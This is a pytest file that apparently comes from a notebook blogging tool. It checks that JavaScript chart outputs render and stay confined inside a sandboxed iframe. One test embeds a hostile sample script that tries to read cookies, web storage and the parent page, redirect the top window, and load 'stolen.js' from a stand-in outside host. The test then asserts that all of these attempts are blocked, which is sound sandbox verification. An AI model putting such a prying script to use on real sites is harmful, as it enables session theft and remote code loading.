"""Charts of JavaScript in a real browser: what one output brings, a later one uses, in a sandboxed frame."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest
from nbformat.v4 import new_code_cell, new_notebook, new_output
from selectolax.lexbor import LexborHTMLParser

from nbpress.core.records import Context, Site
from nbpress.render.post.page import exporter

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser, Page, Route

FILL = f"/* {'x' * 120_000} */"
DRAW = "var line = document.createElement('canvas'); line.id = 'drawn'; document.body.appendChild(line);"
MAKE = f"function draw() {{ {DRAW} }}"
LOAD, EXEC = "application/vnd.bokehjs_load.v0+json", "application/vnd.bokehjs_exec.v0+json"
CHARTS: dict[str, list[dict[str, Any]]] = {
    "alone": [{"text/html": f"<div id=c></div><script>{DRAW}</script>"}],
    "global library": [
        {"text/html": f"<script>{FILL} window.Plotly = {{ draw: function () {{ {DRAW} }} }};</script>"},
        {"text/html": '<div id="p"></div><script>Plotly.draw()</script>'},
    ],
    "module library": [
        {"text/html": f"<script>{FILL} {MAKE} define('plotly', function (r, e, m) {{ m.exports = draw; }});</script>"},
        {"text/html": "<div id=p></div><script>require(['plotly'], function (draw) { draw(); });</script>"},
    ],
    "element and script apart": [
        {"application/javascript": f"{FILL} window.Bokeh = 1;", LOAD: ""},
        {"text/html": '<div id="root"></div>'},
        {"application/javascript": f"if (window.Bokeh && document.getElementById('root')) {{ {DRAW} }}", EXEC: ""},
    ],
    "filled by the next output": [
        {"text/html": "<b class='plot_7f3a9c'>x</b><script>window.drawn = 0</script>"},
        {"text/html": f"<div hidden><script>document.querySelector('.plot_7f3a9c').id; {DRAW}</script></div>"},
    ],
    "script for its own element": [{"application/javascript": "element.append('<canvas id=drawn></canvas>')"}],
}


# What a script of a chart gets where it should get nothing.
PRYING = """<p id="shown">A chart</p><button onclick="this.textContent = 'pressed'">press</button>
<script src="data:text/javascript,window.own = 1"></script><script>
const tries = {
  storage: () => localStorage.length, session: () => sessionStorage.length, cookie: () => document.cookie,
  parent: () => parent.document.body.outerHTML, top: () => top.document.title, address: () => top.location.href,
  leave: () => { top.location.href = "http://elsewhere.example/"; return 1; },
  origin: () => { if (origin === "null") throw 0; return origin; },
};
const got = {};
for (const name in tries) { try { got[name] = String(tries[name]()); } catch {} }
const foreign = document.createElement("script");
foreign.src = ["http://", "elsewhere.example", "/stolen.j", "s"].join("");
let refused = "";
document.addEventListener("securitypolicyviolation", (event) => { refused += event.blockedURI; });
foreign.onload = foreign.onerror = () => setTimeout(() => {
  document.body.dataset.got = JSON.stringify([refused.length, window.own, Object.keys(tries).length, got]);
}, 100);
document.body.append(foreign);
</script>"""


def served(browser: Browser, outputs: list[Any], folder: Path) -> tuple[Page, str, list[str]]:
    """Open an article with a chart; also give the address of its frame, and whom the browser asks besides."""
    nb = new_notebook(cells=[new_code_cell("chart()", outputs=outputs)])
    context = Context(Site(folder, styled=True), "chart.ipynb", "chart", "2020-01-01")
    text, resources = exporter().from_notebook_node(nb, {"nbpress": context})
    frames = LexborHTMLParser(text).css("iframe")
    assert len(frames) == 1
    foreign: list[str] = []

    def answer(route: Route) -> None:
        address = urlsplit(route.request.url)
        if address.netloc != "blog.example":
            foreign.append(route.request.url)
        path = address.path.lstrip("/")
        kind = "text/javascript" if path.endswith(".js") else "text/html"
        route.fulfill(body=resources["outputs"].get(path, frames[0].html), content_type=kind)

    page = browser.new_page()
    page.route("**/*", answer)
    page.goto("http://blog.example/")
    return page, f"http://blog.example{frames[0].attributes['src']}", foreign


@pytest.mark.parametrize("name", CHARTS)
def test_a_chart_draws_in_its_frame(name: str, browser: Browser, tmp_path: Path) -> None:
    page, _, _ = served(browser, [new_output("display_data", data) for data in CHARTS[name]], tmp_path)
    page.frame_locator("iframe").frame_locator("iframe").locator("#drawn").wait_for(state="attached", timeout=10_000)
    page.close()


def test_a_charts_script_has_no_origin_in_the_article_and_when_its_file_is_opened(
    browser: Browser, tmp_path: Path
) -> None:
    page, address, foreign = served(browser, [new_output("display_data", {"text/html": PRYING})], tmp_path)
    in_article = page.frame_locator("iframe").frame_locator("iframe")
    nothing = f"[{len('http://elsewhere.example/stolen.js')},1,8,{{}}]"  # its own library ran, and none from elsewhere
    in_article.locator("body[data-got]").wait_for(state="attached", timeout=10_000)
    assert in_article.locator("body").get_attribute("data-got") == nothing
    page.goto(address)
    opened = page.frame_locator("iframe")
    opened.locator("body[data-got]").wait_for(state="attached", timeout=10_000)
    assert opened.locator("body").get_attribute("data-got") == nothing
    opened.get_by_role("button").click()
    opened.get_by_text("pressed").wait_for(state="visible")
    assert page.url == address and foreign == []
    page.close()
